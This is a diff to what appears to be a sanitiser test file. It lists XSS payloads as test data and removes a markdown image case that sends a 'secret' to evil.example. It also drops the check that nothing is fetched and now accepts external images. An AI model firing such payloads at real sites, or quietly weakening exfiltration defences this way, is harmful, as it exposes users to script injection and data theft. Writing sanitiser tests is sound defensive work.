@@ -13,8 +13,16 @@ it.each([
   '<img src=x onerror=alert(1)>',
   '<iframe src="javascript:alert(1)"></iframe>',
   '[go](javascript:alert(1))',
-  '![leak](https://evil.example/?q=secret)',
   '<b onclick="alert(1)">b</b>',
-])('of %s nothing runs, and nothing is fetched', (text) => {
-  expect(shown(text)).not.toMatch(/javascript:|<img|<iframe|on\w+=/i)
+])('of %s nothing runs', (text) => {
+  expect(shown(text)).not.toMatch(/javascript:|<iframe|on\w+=/i)
+})
+
+it('shows pictures, and of them nothing but address and description', () => {
+  expect(shown('![Apple](assets/public/images/products/apple_juice.jpg)')).toBe(
+    '<p><img src="assets/public/images/products/apple_juice.jpg" alt="Apple"></p>\n',
+  )
+  expect(
+    shown('<b><img src="https://shop.example/a.jpg" alt="a" onload="alert(1)" style="width:9em" srcset="b 2x"></b>'),
+  ).toBe('<p><b><img src="https://shop.example/a.jpg" alt="a"></b></p>\n')
 })
